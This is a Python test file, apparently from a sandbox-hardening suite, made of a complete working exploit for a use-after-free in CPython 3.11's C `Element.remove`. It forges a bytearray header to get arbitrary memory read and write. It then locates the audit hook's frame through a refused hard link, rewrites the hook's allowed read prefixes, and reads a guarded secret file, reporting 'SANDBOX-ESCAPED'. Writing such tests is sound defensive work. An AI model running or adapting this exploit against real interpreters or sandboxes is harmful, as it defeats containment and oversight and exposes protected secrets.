# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# The forty-fourth round's `Element.remove` crash made a primitive. C `Element.remove` (`_elementtree`, CPython 3.11;
# gh-126033, fixed in 3.12 and later only) compares each child with the element to remove by a borrowed reference. An
# element to remove whose type subclasses the child's has its own `__eq__` asked first: it empties the parent
# (`del parent[:]`, which keeps the children's table, so no NULL is read afterwards), whose reference to the child
# was the last one but that of its own frame, and answers NotImplemented, so the child is freed as the frame returns
# and the child's `__eq__` is asked next, with the freed child as `self`. There bytearray buffers of the child's block
# size take the freed block and write a bytearray header of the code's own where the child was (size 2**62, data at
# address 0): `self` reads and writes all memory, with no audit event, and rewrites the hook's frozen read prefixes
# (the frame of a refusal it makes unreported hands them out) at once; the secret file is then read where the hook is
# what guards it. With the hook `_elementtree` is absent and the pure-Python Element removes from a list of its own
# (1); without it native code is assumed anyway (1, or a crash).
import contextlib
import os
import xml.etree.ElementTree as ET

HELD, HOLDERS = [], [bytearray() for _ in range(32)]  # the freed child, and the buffers that take its block
FRAME = []


def words(*values):
    return b"".join(value.to_bytes(8, "little") for value in values)


# a 96-byte block: the collector's 16-byte header, then the header of a bytearray (refcount, type, size, room, data, start)
REFILL = (bytes(16) + words(1 << 20, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0)).ljust(95, b"\0")


class Child(ET.Element):
    __slots__ = ("a", "b", "c")  # an Element is 56 bytes: with the collector's header and 3 slots, a 96-byte block

    def __eq__(self, other):
        if not HELD:
            HELD.append(self)
            for holder in HOLDERS:
                holder[:] = REFILL
            if type(self) is bytearray and len(self) == 1 << 62 and FRAME:  # used at once: the block is reused later
                prefixes, root = FRAME[0].f_locals["read_prefixes"], "/"
                self[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")
                HELD.append("rewritten")
        return False

    __hash__ = object.__hash__


class Removed(Child):
    __slots__ = ()

    def __eq__(self, other):  # asked first: its type subclasses the child's
        del PARENT[:]  # the child's last reference but this frame's
        return NotImplemented

    __hash__ = object.__hash__


PARENT = ET.Element("r")


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    if frame is None:  # no hook here: native code is assumed anyway
        return 1
    FRAME.append(frame)
    PARENT.append(Child("c"))
    with contextlib.suppress(ValueError):
        PARENT.remove(Removed("x"))
    if "rewritten" not in HELD:
        return 1
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED an element's child freed while remove compares: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a child freed while remove compares"
